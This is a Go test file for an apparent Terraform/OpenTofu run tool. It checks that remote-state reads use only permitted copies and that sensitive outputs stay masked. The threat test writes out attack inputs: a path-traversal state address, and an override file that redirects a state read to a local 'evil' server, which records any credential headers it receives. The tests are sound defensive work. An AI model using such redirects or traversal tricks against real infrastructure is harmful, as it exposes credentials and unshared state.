package tfrun

import (
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/tidelock/tidelock/internal/toolchain/toolchaintest"
	"github.com/tidelock/tidelock/planner"
)

const readsHost = "tidelock.invalid" // nobody answers there

// mayRead gives a run what it may read: net/prod with sensitive outputs, and
// net/new, which has nothing in it yet.
func (s *site) mayRead(spec Spec) Spec {
	s.t.Helper()
	dir := filepath.Join(s.dir, spec.RunID, "reads-1")
	toolchaintest.Write(s.t, filepath.Join(dir, "prod"), `{"version":4,"terraform_version":"1.5.0","serial":3,"lineage":"l","outputs":{"vpc":{"value":"vpc-of-net","type":"string"},"pw":{"value":{"a":["s3cret-of-net"]},"type":["object",{"a":["tuple",["string"]]}],"sensitive":true},"pin":{"value":76543210,"type":"number","sensitive":true}},"resources":[]}`)
	spec.Reads = &Reads{Server: planner.Server{Host: readsHost, Path: "/state/"}, Dir: dir, Tofu: s.binary.Tool == "OpenTofu", States: []ReadState{
		{State: "acme/net/prod", File: "prod", Ref: StateRef{Lineage: "l", Serial: 3}}, {State: "acme/net/new"},
	}}
	return spec
}

const readsCode = `
variable "env" {
  default = "prod"
}
data "terraform_remote_state" "plain" {
  backend = "remote"
  config = {
    hostname     = "tidelock.invalid"
    organization = "acme"
    workspaces   = { name = "net:prod" }
  }
}
data "terraform_remote_state" "each" {
  for_each = toset([var.env])
  backend  = "http"
  config   = { address = "https://tidelock.invalid/state/acme/net/${each.key}" }
}
data "terraform_remote_state" "prefix" {
  backend   = "remote"
  workspace = lower(
    # said at length
    upper(var.env)
  )
  config = {
    hostname     = "tidelock.invalid"
    organization = "acme"
    workspaces   = { prefix = "net:" }
  }
}
data "terraform_remote_state" "late" {
  backend    = "http"
  config     = { address = "https://tidelock.invalid:443/state/acme/net/prod" }
  depends_on = [terraform_data.first]
}
resource "terraform_data" "first" {
  input = data.terraform_remote_state.plain.outputs.vpc
}
resource "terraform_data" "second" {
  input = [data.terraform_remote_state.late.outputs.vpc, data.terraform_remote_state.each["prod"].outputs.vpc, data.terraform_remote_state.prefix.outputs.vpc]
}
output "shown" {
  value = data.terraform_remote_state.plain.outputs.pw
}
output "pin" {
  value = data.terraform_remote_state.plain.outputs.pin
}
`

// Code reads the outputs of another project by http and by remote, at plan and
// at apply, from copies: nobody is asked. What is sensitive there is masked here.
func TestCodeReadsCopiesOfOtherStates(t *testing.T) {
	each(t, func(t *testing.T, b Binary) {
		s := newSite(t, b, map[string]string{"live/main.tf": readsCode})
		data := filepath.Join(s.dir, "data")
		common := func(spec Spec) Spec {
			spec.DataDir = data
			return s.mayRead(spec)
		}
		plan := common(s.spec("live"))
		r, log := s.execute(plan)
		if r.Outcome != OutcomePlanned {
			t.Fatalf("%+v\n%s", r, log)
		}
		kept, err := os.ReadFile(plan.PlanJSON)
		if err != nil || !strings.Contains(string(kept), "vpc-of-net") || strings.Contains(string(kept), "s3cret-of-net") || strings.Contains(string(kept), "76543210") || strings.Contains(log, "s3cret-of-net") {
			t.Errorf("%v: %s\n%s", err, kept, log)
		}
		if _, err := os.Stat(filepath.Join(s.root, "live", planner.ReadsOverride)); err == nil {
			t.Error("our file is left in the tree")
		}
		apply := applyOf(common(s.spec("live")))
		apply.PlanFile = plan.PlanFile
		if err := os.RemoveAll(plan.Reads.Dir); err != nil { // with the plan's folder
			t.Fatal(err)
		}
		r, log = s.execute(apply)
		if r.Outcome != OutcomeApplied || strings.Contains(log, "s3cret-of-net") {
			t.Fatalf("%+v\n%s", r, log)
		}
		state, err := os.ReadFile(apply.ManagedBackend)
		if err != nil || strings.Count(string(state), "vpc-of-net") < 4 {
			t.Errorf("%v: %s", err, state)
		}
	})
}

// Of what was not shared there is no copy: code that names it is refused, or
// fails where only Terraform knows what it names, and says what to do.
func TestThreat_CodeReadsNoOtherState(t *testing.T) {
	each(t, func(t *testing.T, b Binary) {
		read := func(config string) string {
			return "data \"terraform_remote_state\" \"x\" {\n  backend = \"http\"\n  config  = " + config + "\n}\noutput \"x\" {\n  value = data.terraform_remote_state.x.outputs\n}\n"
		}
		const at = "https://" + readsHost + "/state/"
		s := newSite(t, b, nil)
		for name, c := range map[string]struct{ code, says string }{
			"another":           {read(`{ address = "` + at + `acme/secret" }`), "live/main.tf:1: data.terraform_remote_state.x reads the state acme/secret, and there is none of that name that this project may read"},
			"another client's":  {read(`{ address = "` + at + `beta/net/prod" }`), "there is none of that name that this project may read"},
			"by a way round":    {read(`{ address = "` + at + `acme/x/../net/prod" }`), "there is none of that name"},
			"nothing in it":     {read(`{ address = "` + at + `acme/net/new" }`), "has nothing in it yet"},
			"computed":          {"locals {\n  n = \"secret\"\n}\n" + read(`{ address = "`+at+`acme/${local.n}" }`), "only states that this project may read"},
			"computed, nothing": {"locals {\n  n = \"new\"\n}\n" + read(`{ address = "`+at+`acme/net/${local.n}" }`), "that exist"},
			"incomplete":        {strings.ReplaceAll(read(`{ hostname = "`+readsHost+`", organization = "acme" }`), `"http"`, `"remote"`), "does not say which workspace is meant"},
		} {
			s.lay(map[string]string{"live/main.tf": c.code})
			r, log := s.execute(s.mayRead(s.spec("live")))
			if r.Outcome != OutcomeFailed || !strings.Contains(r.Error, c.says) {
				t.Errorf("%s: %+v\n%s", name, r, log)
			}
		}
		// Nor has a run anything that somebody else could use: whoever is asked in
		// place of the server, by a file that comes last or by an address that only
		// Terraform knows, is shown no credential.
		var mu sync.Mutex
		var shown []string
		asked := 0
		evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			mu.Lock()
			defer mu.Unlock()
			asked++
			for _, h := range []string{"Authorization", "Cookie", "Proxy-Authorization"} {
				if v := r.Header.Get(h); v != "" {
					shown = append(shown, h+": "+v)
				}
			}
			w.WriteHeader(http.StatusNotFound)
		}))
		defer evil.Close()
		files := map[string]string{
			"live/main.tf":        read(`{ address = "` + at + `acme/net/prod" }`),
			"live/zz_override.tf": "data \"terraform_remote_state\" \"x\" {\n  backend = \"http\"\n  config  = { address = \"${join(\"\", [\"" + evil.URL + "\"])}/state/acme/net/prod\" }\n}\n",
		}
		s.lay(files)
		r, log := s.execute(s.mayRead(s.spec("live")))
		if r.Outcome != OutcomeFailed || !strings.Contains(log, "it can't be told from the text") {
			t.Errorf("%+v\n%s", r, log)
		}
		mu.Lock()
		defer mu.Unlock()
		if asked == 0 || len(shown) > 0 {
			t.Errorf("asked %d times, shown %q", asked, shown)
		}
	})
}

// A unit whose backend names this server is refused, where init has asked that in
// vain, and what to do is said.
func TestTerragruntUnitWhoseBackendIsHere(t *testing.T) {
	const closed = "127.0.0.1:1"
	eachTerragrunt(t, false, func(t *testing.T, s *site, tg *Terragrunt) {
		for name, config := range map[string]string{
			"http":   "backend \"http\" {\n    address = \"https://" + closed + "/state/acme/net\"\n    retry_max = 0\n  }",
			"remote": "backend \"remote\" {\n    hostname     = \"" + closed + "\"\n    organization = \"acme\"\n    workspaces {\n      name = \"net\"\n    }\n  }",
		} {
			toolchaintest.Write(t, filepath.Join(s.root, "live", name, "terragrunt.hcl"), "inputs = { name = \"x\" }\n")
			toolchaintest.Write(t, filepath.Join(s.root, "live", name, "main.tf"), "variable \"name\" {}\nterraform {\n  "+config+"\n}\n"+resource)
			spec := s.mayRead(s.unitSpec("live/"+name, tg))
			spec.Reads.Server.Host = closed
			r, log := s.execute(spec)
			if r.Outcome != OutcomeFailed || !strings.Contains(r.Error, "The code of the unit live/"+name+" names this Tidelock") || !strings.Contains(r.Error, `kind = "terraform"`) {
				t.Errorf("%s: %+v\n%s", name, r, log)
			}
		}
	})
}
